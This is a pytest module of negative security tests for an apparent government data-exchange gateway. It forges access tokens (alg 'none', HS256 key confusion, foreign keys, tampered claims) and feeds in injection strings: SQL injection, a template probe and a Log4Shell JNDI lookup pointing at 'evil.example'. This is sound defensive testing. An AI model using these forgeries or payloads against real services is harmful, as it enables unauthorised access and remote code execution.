"""Attacks on the access token (R): foreign, stale, changed, and used for what it is not for."""

import json
import time
from collections.abc import Callable
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from tests.agency import Agency, Answer, base64url
from tests.attacks.forging import (
    compact,
    elliptic,
    nothing,
    private_key,
    public_jwk,
    secret,
)
from tests.attacks.ledger_watch import REFUSAL, nothing_written, standing, written
from tests.attacks.wire import request, send
from tests.country import ENROLMENT, INCOME, RESIDENTS, SCHEME, RunningCountry

API = "/v1/exchanges"
STRANGER = ec.generate_private_key(ec.SECP256R1())


class Mint:
    """The gateway's own token key in the wrong hands: what it signs is right in form alone."""

    def __init__(self, country: RunningCountry) -> None:
        kept = json.loads((country.state / "gateway/keys/token.json").read_text())
        self.kid, self.jwk = kept["kid"], kept["private"]
        self.key = private_key(self.jwk)
        self.agency = country.agency()

    def claims(self, **changed: Any) -> dict[str, Any]:
        now = int(time.time())
        made = {
            "iss": self.agency.gateway,
            "sub": self.agency.client_id,
            "client_id": self.agency.client_id,
            "aud": self.agency.gateway,
            "iat": now,
            "exp": now + 300,
            "jti": f"forged-{time.time_ns()}",
            "scope": "directory.read exchange.request",
            "agency": "family-benefits",
            "cnf": {"jkt": self.agency.proof_key.thumbprint()},
            **changed,
        }
        return {name: value for name, value in made.items() if value is not None}

    def token(self, header: dict[str, Any] | None = None, **changed: Any) -> str:
        head = {"alg": "ES256", "kid": self.kid, "typ": "at+jwt", **(header or {})}
        kept = {name: value for name, value in head.items() if value is not None}
        return compact(kept, self.claims(**changed), elliptic(self.key))

    def signed_by(self, sign: Callable[[bytes], bytes], **header: Any) -> str:
        head = {"alg": "ES256", "kid": self.kid, "typ": "at+jwt", **header}
        return compact(head, self.claims(), sign)

    def over(self, payload: bytes) -> str:
        head = {"alg": "ES256", "kid": self.kid, "typ": "at+jwt"}
        return compact(head, payload, elliptic(self.key))

    def raw(self) -> bytes:
        return json.dumps(self.claims()).encode()

    def use(self, token: str, body: bytes = b"{}") -> Answer:
        """Ask for an exchange with this token and a right proof for it."""
        headers = {
            "Content-Type": "application/json",
            "Authorization": f"DPoP {token}",
            "DPoP": self.agency.proof("POST", API, token),
        }
        return self.agency.request("POST", API, body, headers)


@pytest.fixture(scope="module")
def mint(country: RunningCountry) -> Mint:
    return Mint(country)


Make = Callable[[Mint], str]


def now() -> int:
    return int(time.time())


def hmac_with_public_key(mint: Mint) -> str:
    members = {name: mint.jwk[name] for name in ("kty", "crv", "x", "y")}
    return mint.signed_by(secret(json.dumps(members).encode()), alg="HS256")


INVALID: dict[str, Make] = {
    "R1 alg none": lambda m: m.signed_by(nothing, alg="none"),
    "R1 HS256 with the public key": hmac_with_public_key,
    "R1 a stranger's key": lambda m: m.signed_by(elliptic(STRANGER)),
    "R1 a stranger's key in the header": lambda m: m.signed_by(
        elliptic(STRANGER), jwk=public_jwk(STRANGER)
    ),
    "R1 no signature": lambda m: m.token().rpartition(".")[0] + ".",
    "R1 a changed payload": lambda m: ".".join(
        (
            m.token().split(".")[0],
            base64url(json.dumps(m.claims(agency="tax")).encode()),
            m.token().split(".")[2],
        )
    ),
    "R2 another issuer": lambda m: m.token(iss="https://evil.example"),
    "R2 issuer missing": lambda m: m.token(iss=None),
    "R2 another audience": lambda m: m.token(aud="https://evil.example"),
    "R2 audience is a list": lambda m: m.token(aud=[m.agency.gateway]),
    "R2 audience missing": lambda m: m.token(aud=None),
    "R2 kid of nobody": lambda m: m.token({"kid": "nobody"}),
    "R2 kid missing": lambda m: m.token({"kid": None}),
    "R2 kid is a number": lambda m: m.token({"kid": 1}),
    "R2 typ missing": lambda m: m.token({"typ": None}),
    "R2 typ JWT": lambda m: m.token({"typ": "JWT"}),
    "R2 typ of a receipt": lambda m: m.token({"typ": "causeway-receipt+jwt"}),
    "R2 an assertion as a token": lambda m: m.agency.assertion(),
    "R2 a proof as a token": lambda m: m.agency.proof("POST", API),
    "R3 iat 60 seconds ahead": lambda m: m.token(iat=now() + 60, exp=now() + 300),
    "R3 lives an hour": lambda m: m.token(exp=now() + 3600),
    "R3 exp missing": lambda m: m.token(exp=None),
    "R3 exp is a text": lambda m: m.token(exp="2030"),
    "R3 exp is a fraction": lambda m: m.token(exp=now() + 60.5),
    "R3 iat missing": lambda m: m.token(iat=None),
    "R3 iat is true": lambda m: m.token(iat=True),
    "R8 scope is a number": lambda m: m.token(scope=7),
    "R8 scope is an object": lambda m: m.token(scope={"exchange.request": True}),
    "R8 scope is a list": lambda m: m.token(scope=["exchange.request"]),
    "R8 scope missing": lambda m: m.token(scope=None),
    "R8 scope unknown": lambda m: m.token(scope="exchange.request admin"),
    "R8 more scope than registered": lambda m: m.token(scope="exchange.request audit.entries"),
    "R8 agency missing": lambda m: m.token(agency=None),
    "R8 agency is a list": lambda m: m.token(agency=["family-benefits"]),
    "R11 the client of another agency": lambda m: m.token(agency="tax"),
    "R11 another client's id": lambda m: m.token(client_id="child-maintenance-1"),
    "R11 a client that does not exist": lambda m: m.token(sub="x", client_id="x"),
    "R11 sub missing": lambda m: m.token(sub=None),
    "R11 sub is a number": lambda m: m.token(sub=1, client_id=1),
    "D-16 no cnf": lambda m: m.token(cnf=None),
    "D-16 cnf empty": lambda m: m.token(cnf={}),
    "D-16 cnf is a text": lambda m: m.token(cnf=m.agency.proof_key.thumbprint()),
    "D-16 cnf with a certificate too": lambda m: m.token(
        cnf={"jkt": m.agency.proof_key.thumbprint(), "x5t#S256": "a"}
    ),
    "D-16 jkt of no size": lambda m: m.token(cnf={"jkt": ""}),
    "D-16 jkt is a list": lambda m: m.token(cnf={"jkt": [m.agency.proof_key.thumbprint()]}),
    "T22 nested": lambda m: m.over(b"[" * 1200 + b"]" * 1200),
    "T22 scope twice": lambda m: m.over(m.raw()[:-1] + b', "scope": "exchange.request"}'),
    "T22 a huge integer": lambda m: m.over(m.raw()[:-1] + b', "n": ' + b"9" * 999 + b"}"),
    "T22 a lone surrogate": lambda m: m.over(m.raw()[:-1] + b', "s": "\\udfff"}'),
    "T22 a byte order mark": lambda m: m.over(b"\xef\xbb\xbf" + m.raw()),
    "T22 no JSON": lambda m: m.over(b"\xff\xfe"),
    "T22 five thousand characters": lambda m: m.token(pad="p" * 5000),
    "T22 two tokens": lambda m: m.token() + " " + m.token(),
    "T22 a comma after it": lambda m: m.token() + ",",
    "T22 one letter": lambda _: "x",
}


@pytest.mark.parametrize("make", INVALID.values(), ids=INVALID)
def test_a_token_that_is_not_ours_opens_no_exchange(
    country: RunningCountry, mint: Mint, make: Make
) -> None:
    with nothing_written(country):
        answer = mint.use(make(mint))
    assert (answer.status, answer.reason) == (401, "token.invalid")
    assert answer.headers["www-authenticate"].startswith('DPoP error="invalid_token"')


def test_the_mint_itself_is_right(mint: Mint) -> None:
    """Without this, every refusal above might have another cause."""
    answer = mint.use(mint.token())
    assert (answer.status, answer.reason) == (400, "request.malformed")


@pytest.mark.parametrize("ago", [1, 299, 86_400])
def test_an_expired_token_is_told_so(country: RunningCountry, mint: Mint, ago: int) -> None:
    """R3: from the second in which it expires."""
    with nothing_written(country):
        answer = mint.use(mint.token(iat=now() - ago - 60, exp=now() - ago))
    assert (answer.status, answer.reason) == (401, "token.expired")
    assert 'error="invalid_token"' in answer.headers["www-authenticate"]


def test_a_token_says_when_it_is_missing(country: RunningCountry) -> None:
    agency = country.agency()
    for headers in ({}, {"Authorization": ""}, {"DPoP": agency.proof("POST", API)}):
        with nothing_written(country):
            answer = agency.request("POST", API, b"{}", headers)
        assert (answer.status, answer.reason) == (401, "token.missing")


def test_a_token_counts_only_in_its_header(country: RunningCountry) -> None:
    """R9: not in the URL, and not in the body."""
    agency = country.agency()
    proof = {"DPoP": agency.proof("POST", API, agency.token)}
    for target, body, media in (
        (f"{API}?access_token={agency.token}", b"{}", "application/json"),
        (API, f"access_token={agency.token}".encode(), "application/x-www-form-urlencoded"),
        (API, json.dumps({"access_token": agency.token}).encode(), "application/json"),
    ):
        with nothing_written(country):
            answer = agency.request("POST", target, body, {"Content-Type": media, **proof})
        assert (answer.status, answer.reason) == (401, "token.missing")


def test_a_token_that_is_no_text_is_refused(mint: Mint) -> None:
    lines = [("Host", "g"), ("Connection", "close"), ("Authorization", b"DPoP \xff\xfe.a.b")]
    answer = send(mint.agency.gateway, request("POST", API, lines)).last
    assert (answer.status, answer.reason) == (401, "token.invalid")


# ------------------------------------------------------------------ a right token, wrongly used


def ask(agency: Agency, number: str, /, **members: Any) -> Answer:
    return agency.post(
        {
            "agreement": "family-allowance",
            "service": RESIDENTS,
            "subject": {"scheme": SCHEME, "value": number},
            "fields": ["/name/family"],
            **members,
        }
    )


def test_a_token_without_the_scope_opens_nothing(country: RunningCountry) -> None:
    agency, resident = country.agency(), standing(country)
    agency.held = agency.ask_token(scope="directory.read").json["access_token"]
    with nothing_written(country):
        answer = ask(agency, resident.number)
    assert (answer.status, answer.reason) == (403, "scope.insufficient")


def test_one_agencys_consent_is_no_use_to_another(country: RunningCountry) -> None:
    """R12: the agreement is looked up under the caller's agency and no other."""
    resident, other = standing(country), country.agency("child-maintenance")
    with written(country, REFUSAL):
        answer = ask(other, resident.number)
    assert (answer.status, answer.reason) == (403, "agreement.unknown")


def test_an_agreement_that_exists_looks_like_one_that_does_not(country: RunningCountry) -> None:
    resident, other = country.resident(), country.agency("child-maintenance")
    answers = [
        ask(other, resident.number, agreement=name).json
        for name in ("family-allowance", "no-such-agreement")
    ]
    for answer in answers:
        del answer["exchange"], answer["trace"]
    assert answers[0] == answers[1]


@pytest.mark.parametrize(
    "members",
    [
        {"purpose": "dpv:LegalCompliance"},
        {"basis": "statutory"},
        {"consent": "co_aaaaaaaaaaaaaaaaaaaaaaaaaa"},
        {"agency": "tax"},
        {"client_id": "child-maintenance-1"},
        {"status": "given"},
    ],
    ids=str,
)
def test_the_caller_does_not_choose_what_the_agreement_fixes(
    country: RunningCountry, members: dict[str, str]
) -> None:
    """R12: purpose, basis, consent and agency are no members of a request."""
    resident = standing(country)
    with nothing_written(country):
        answer = ask(country.agency(), resident.number, **members)
    assert (answer.status, answer.reason) == (400, "request.malformed")


def test_consent_of_one_person_is_no_use_for_another(country: RunningCountry) -> None:
    """R12."""
    standing(country)
    with written(country, REFUSAL):
        answer = ask(country.agency(), country.resident().number)
    assert (answer.status, answer.reason) == (403, "subject.not_released")


@pytest.mark.parametrize(
    ("service", "field"),
    [
        (INCOME, "/bank/account"),
        (INCOME, "/tax/arrears"),
        (RESIDENTS, "/phone"),
        (RESIDENTS, "/nationality"),
        (ENROLMENT, "/enrolments/*/support"),
    ],
)
def test_a_field_beyond_the_agreement_is_refused_whole(
    country: RunningCountry, service: str, field: str
) -> None:
    """X: not cut silently, but refused, beside a field that is agreed too."""
    agreed = {
        INCOME: "/income/year",
        RESIDENTS: "/name/family",
        ENROLMENT: "/enrolments/*/since",
    }
    resident = standing(country)
    with written(country, REFUSAL):
        answer = ask(
            country.agency(), resident.number, service=service, fields=[agreed[service], field]
        )
    assert (answer.status, answer.reason) == (403, "field.not_agreed")


@pytest.mark.parametrize(
    "field",
    [
        "/name",
        "/",
        "/*",
        "/name/*",
        "/name/family/",
        "/name/Family",
        "/children",
        "/children/0/birth_date",
        "/children/*",
        "/children/-/birth_date",
        "/name~1family",
        "/../resident_number",
        "/resident_number",
        "/name/family ",
        "/name/famil\u0131",
        "/n\u0430me/family",
        "/name/family?",
        "/name/family; DROP TABLE residents",
        "/name/family' OR '1'='1",
        "/{{7*7}}",
        "/${jndi:ldap://evil.example/a}",
    ],
)
def test_only_the_listed_fields_exist(country: RunningCountry, field: str) -> None:
    """X: no prefix, no wildcard, no index, no other spelling."""
    resident = standing(country)
    with written(country, REFUSAL):
        answer = ask(country.agency(), resident.number, fields=[field])
    assert (answer.status, answer.reason) == (400, "field.unknown")
    assert field not in answer.json["detail"]
